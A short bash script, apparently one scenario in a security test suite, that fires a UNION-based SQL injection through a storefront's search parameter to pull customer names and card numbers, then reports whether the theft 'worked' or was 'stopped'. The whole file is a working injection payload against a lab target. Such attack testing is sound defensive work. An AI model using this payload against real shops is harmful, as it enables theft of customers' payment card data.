#!/usr/bin/env bash
# Steals the customers' cards from the store through the storefront's search. MITRE ATT&CK T1190, Exploit Public-Facing Application; T1213, Data from Information Repositories.
. "$(dirname "$0")/lib.sh"

out=$(evil get "http://storefront:8080/search?q=$(urlencode "nothing' UNION SELECT name, card FROM customer; SELECT 1 -- ")")
[[ $out == *4242424242424242* ]] || stopped "no card came back"
worked "stole $(grep -c '[0-9]\{15,16\}\]' <<<"$out") cards, one of them 4242424242424242"
